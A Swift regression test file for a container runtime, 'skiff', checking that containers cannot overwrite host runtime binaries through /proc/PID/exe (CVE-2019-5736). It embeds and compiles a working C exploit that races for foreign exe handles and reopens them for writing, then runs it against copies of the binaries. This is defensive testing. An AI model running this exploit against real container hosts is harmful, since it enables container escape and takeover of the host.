import Foundation
import SkiffKit
import SkiffSystem
import Testing

/// CVE-2019-5736: a process in a container gets hold of the host's runtime binary through
/// /proc/PID/exe (of a process skiff cloned into the container, or of a container whose command is
/// /proc/self/exe) and writes to it once no host process runs it any more, so that the next `skiff`
/// on the host runs the attacker's code. The attacker here is a static C program that races for every
/// foreign /proc/PID/exe and keeps trying to open what it holds for writing; the tests run a copy of
/// the built binaries (so a successful attack cannot damage the build) and fail if that copy changed, or
/// if the attacker ever held one of them: not the launchers `skiff` and `skiff-oci`, nor the programs
/// they run (`skiff-main`, `skiff-oci-main`), nor the monitor may be the exe of a process it can see.
/// SKIFF_ATTACK_BINARIES=DIR attacks the binaries in DIR instead (copied too).
@Suite(.serialized) struct RuntimeBinaryAttackTests {
    static let attacker = #"""
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <errno.h>
        #include <fcntl.h>
        #include <sched.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/stat.h>
        #include <time.h>
        #include <unistd.h>

        /* Races for /proc/PID/exe of every process that runs neither this program nor busybox (so: the host's
         * runtime binary, cloned or exec'd into the container), keeps an O_PATH fd to each, and keeps trying
         * to reopen those for writing until the deadline: CVE-2019-5736. Prints what it got. */
        #define MAX 64
        static int fds[MAX];
        static dev_t devs[MAX];
        static ino_t inos[MAX];
        static int done[MAX];
        static int held;

        static double now(void) {
            struct timespec t;
            clock_gettime(CLOCK_MONOTONIC, &t);
            return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
        }

        static void grab(const struct stat *self_exe, const struct stat *busybox, pid_t self) {
            DIR *d = opendir("/proc");
            if (!d) return;
            struct dirent *e;
            while ((e = readdir(d)) && held < MAX) {
                pid_t pid = (pid_t)atoi(e->d_name);
                if (pid <= 0 || pid == self) continue;
                char path[64];
                snprintf(path, sizeof path, "/proc/%d/exe", pid);
                int fd = open(path, O_PATH | O_CLOEXEC);
                if (fd < 0) continue;
                struct stat st;
                int keep = fstat(fd, &st) == 0 && !(st.st_dev == self_exe->st_dev && st.st_ino == self_exe->st_ino)
                           && !(st.st_dev == busybox->st_dev && st.st_ino == busybox->st_ino);
                for (int i = 0; keep && i < held; i++) keep = !(devs[i] == st.st_dev && inos[i] == st.st_ino);
                if (!keep) { close(fd); continue; }
                fds[held] = fd; devs[held] = st.st_dev; inos[held] = st.st_ino; held++;
                printf("held exe of pid %d (dev %lu ino %lu)\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
                fflush(stdout);
            }
            closedir(d);
        }

        int main(int argc, char **argv) {
            double seconds = argc > 1 ? atof(argv[1]) : 5;
            struct stat self_exe, busybox;
            if (stat("/proc/self/exe", &self_exe) != 0) { perror("stat /proc/self/exe"); return 2; }
            if (stat("/bin/busybox", &busybox) != 0) { perror("stat /bin/busybox"); return 2; }
            pid_t self = getpid();
            int wrote = 0, last_err = 0;
            double end = now() + seconds;
            while (now() < end) {
                grab(&self_exe, &busybox, self);
                for (int i = 0; i < held; i++) {
                    if (done[i]) continue;
                    char path[64];
                    snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
                    int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
                    if (w < 0) { last_err = errno; continue; }
                    if (write(w, "\n#PWNED-BY-CONTAINER\n", 21) == 21) {
                        wrote++;
                        /* Once is proof enough: trying on would only make the host's next exec of that binary
                         * fail with ETXTBSY while an fd for writing is open. */
                        done[i] = 1;
                    } else {
                        last_err = errno;
                    }
                    close(w);
                }
                sched_yield();
            }
            printf("attack: held %d foreign exe(s), wrote %d time(s), last error %s\n", held, wrote,
                   last_err ? strerror(last_err) : "none");
            return 0;
        }
        """#

    /// Every binary an install puts in its bin directory: the launchers, the programs they run, the monitor.
    static let binaries = ["skiff", "skiff-main", "skiff-monitor", "skiff-oci", "skiff-oci-main"]

    /// A copy of the installed binaries in `dir`, the attacker compiled beside them.
    struct Arsenal {
        let dir: String
        let skiff: String
        let skiffOCI: String
        let attacker: String
        /// A host binary exec'd into the container from a read-only bind mount: the attacker must hold it.
        let control: String
        let original: [String: Data]

        init(in base: String) throws {
            dir = base + "/bin"
            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
            let built =
                ProcessInfo.processInfo.environment["SKIFF_ATTACK_BINARIES"]
                ?? (Engine.skiffPath as NSString).deletingLastPathComponent
            var original: [String: Data] = [:]
            // cp in a process of its own: no fd open for writing on a copy can leak from this
            // (multi-threaded) test process into a child, where exec'ing the copy would fail (ETXTBSY).
            let names = RuntimeBinaryAttackTests.binaries
            let cp = Process()
            cp.executableURL = URL(fileURLWithPath: "/bin/cp")
            cp.arguments = names.map { built + "/" + $0 } + [dir]
            try cp.run()
            cp.waitUntilExit()
            guard cp.terminationStatus == 0 else { throw StaticHelper.Failure("cp of \(names) from \(built) failed") }
            for name in names {
                original[name] = try Data(contentsOf: URL(fileURLWithPath: dir + "/" + name))
            }
            self.original = original
            skiff = dir + "/skiff"
            skiffOCI = dir + "/skiff-oci"
            let tools = base + "/attack"
            try FileManager.default.createDirectory(atPath: tools, withIntermediateDirectories: true)
            attacker = try StaticHelper.build("exe-attack", source: RuntimeBinaryAttackTests.attacker, in: tools)
            // The control: another file, so the attacker does not take it for itself.
            control = tools + "/control"
            try FileManager.default.copyItem(atPath: attacker, toPath: control)
            // `#!/proc/self/exe`: the kernel runs whatever the exec'ing process is running as the interpreter.
            try "#!/proc/self/exe\n".write(toFile: tools + "/shebang", atomically: true, encoding: .utf8)
            chmod(tools + "/shebang", 0o755)
        }

        /// The identities (device, inode) on the host of the copies and of the control ("control"): what
        /// the attacker reports for what it held.
        func identities() -> [String: String] {
            var out: [String: String] = [:]
            let files = original.keys.map { ($0, dir + "/" + $0) } + [("control", control)]
            for (name, path) in files {
                var st = stat()
                if stat(path, &st) == 0 { out["dev \(st.st_dev) ino \(st.st_ino)"] = name }
            }
            return out
        }

        /// The copies (and the control) the attacker held through /proc/PID/exe of a process in the container.
        func held(in report: String) -> [String] {
            let ids = identities()
            return report.split(separator: "\n").compactMap { line in
                guard line.hasPrefix("held exe of pid "), let open = line.firstIndex(of: "("),
                    let close = line.lastIndex(of: ")")
                else { return nil }
                return ids[String(line[line.index(after: open)..<close])]
            }
        }

        /// Names of the copied binaries whose bytes changed.
        func tampered() -> [String] {
            original.keys.sorted().filter { name in
                (try? Data(contentsOf: URL(fileURLWithPath: dir + "/" + name))) != original[name]
            }
        }
    }

    /// The attacker's closing line, e.g. "attack: held 1 foreign exe(s), wrote 0 time(s), last error …".
    static func summary(_ out: String) -> (held: Int, wrote: Int, line: String) {
        guard let line = out.split(separator: "\n").last(where: { $0.hasPrefix("attack:") }) else { return (0, 0, out) }
        let words = line.split(separator: " ")
        return (Int(words[2]) ?? 0, Int(words[6]) ?? 0, String(line))
    }

    @Test func containerCannotRewriteSkiffThroughProcExe() throws {
        let scratch = try FileIO.makeTemporaryDirectory(in: "/tmp", prefix: "skiff-exe-attack-")
        defer { FileIO.removeTree(scratch) }
        let arsenal = try Arsenal(in: scratch)
        let root = try CLIRoot(executable: arsenal.skiff)
        defer { root.cleanUp() }
        let tools = (arsenal.attacker as NSString).deletingLastPathComponent

        // The attacker is the container's own process, racing while skiff execs into it: the classic
        // entry points (/proc/self/exe, and a script whose interpreter is /proc/self/exe), then plain
        // execs. It goes on for a while after the last skiff on the host has exited (no ETXTBSY then).
        let started = root.skiff(
            "run", "-d", "--name", "victim", "--network", "none", "-v", "\(tools):/attack:ro",
            "busybox", "/attack/exe-attack", "8")
        try #require(started.status == 0, "run -d: \(started.err)")
        usleep(300_000)
        // The control, first (on a loaded machine the attacker's window may be over by the end): a host
        // binary exec'd into the container (bind-mounted read-only) is fair game for the attacker, so it
        // must show up as held; otherwise the attacker saw nothing and proved nothing.
        root.skiff("exec", "victim", "/attack/control", "1")
        for _ in 0..<3 {
            root.skiff("exec", "victim", "/proc/self/exe", "--version")
            root.skiff("exec", "victim", "/attack/shebang")
        }
        root.skiff("run", "--rm", "--network", "none", "--entrypoint", "/proc/self/exe", "busybox", "--version")
        for _ in 0..<10 { root.skiff("exec", "victim", "true") }
        let waited = root.skiff("wait", "victim", timeout: 30)
        #expect(waited.status == 0, "wait: \(waited.err)")
        let report = root.skiff("logs", "victim").out
        let result = Self.summary(report)

        #expect(arsenal.tampered().isEmpty, "the container rewrote \(arsenal.tampered()): \(report)")
        let held = arsenal.held(in: report)
        #expect(held.filter { $0 != "control" }.isEmpty, "the container held the host's \(held): \(report)")
        #expect(result.wrote == 0, "\(result.line)")
        #expect(held.contains("control"), "the attacker never held the control, so this proved nothing: \(report)")
    }

    /// The same attack on `skiff-oci`, runc's command line, as Podman or containerd drive it.
    @Test func containerCannotRewriteSkiffOCIThroughProcExe() throws {
        let scratch = try FileIO.makeTemporaryDirectory(in: "/tmp", prefix: "skiff-exe-attack-oci-")
        defer { FileIO.removeTree(scratch) }
        let arsenal = try Arsenal(in: scratch)
        let tools = (arsenal.attacker as NSString).deletingLastPathComponent
        let fixture = (TestImage.busyboxRootfs as NSString).deletingLastPathComponent
        let bundle = scratch + "/bundle"
        try FileManager.default.createDirectory(atPath: bundle, withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: TestImage.busyboxRootfs, toPath: bundle + "/rootfs")
        var config =
            try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: fixture + "/config.json")))
            as! [String: Any]
        var process = config["process"] as! [String: Any]
        process["args"] = ["/attack/exe-attack", "6"]
        config["process"] = process
        config["mounts"] =
            (config["mounts"] as! [[String: Any]])
            + [["destination": "/attack", "type": "bind", "source": tools, "options": ["rbind", "ro"]]]
        try JSONSerialization.data(withJSONObject: config).write(to: URL(fileURLWithPath: bundle + "/config.json"))

        let state = scratch + "/state"
        let id = "exe-attack-\(getpid())"
        func oci(_ args: String..., stdout: String = "/dev/null") -> Int32 {
            let p = Process()
            p.executableURL = URL(fileURLWithPath: arsenal.skiffOCI)
            p.arguments = ["--root", state] + args
            p.standardInput = FileHandle.nullDevice
            p.standardOutput = FileHandle(forWritingAtPath: stdout)
            p.standardError = FileHandle.nullDevice
            try! p.run()
            p.waitUntilExit()
            return p.terminationStatus
        }
        let reportPath = scratch + "/report"
        _ = FileManager.default.createFile(atPath: reportPath, contents: nil)
        try #require(oci("run", "-d", "--bundle", bundle, id, stdout: reportPath) == 0, "skiff-oci run -d failed")
        defer { _ = oci("delete", "-f", id) }
        usleep(300_000)
        for _ in 0..<3 {
            _ = oci("exec", id, "/proc/self/exe", "--version")
            _ = oci("exec", id, "/attack/shebang")
        }
        for _ in 0..<10 { _ = oci("exec", id, "true") }
        _ = oci("exec", id, "/attack/control", "0.5")
        let deadline = Date().addingTimeInterval(30)
        while Date() < deadline, !((try? String(contentsOfFile: reportPath, encoding: .utf8)) ?? "").contains("attack:")
        {
            usleep(100_000)
        }
        let report = (try? String(contentsOfFile: reportPath, encoding: .utf8)) ?? ""
        let result = Self.summary(report)

        #expect(arsenal.tampered().isEmpty, "the container rewrote \(arsenal.tampered()): \(report)")
        let held = arsenal.held(in: report)
        #expect(held.filter { $0 != "control" }.isEmpty, "the container held the host's \(held): \(report)")
        #expect(result.wrote == 0, "\(result.line)")
        #expect(held.contains("control"), "the attacker never held the control, so this proved nothing: \(report)")
    }
}
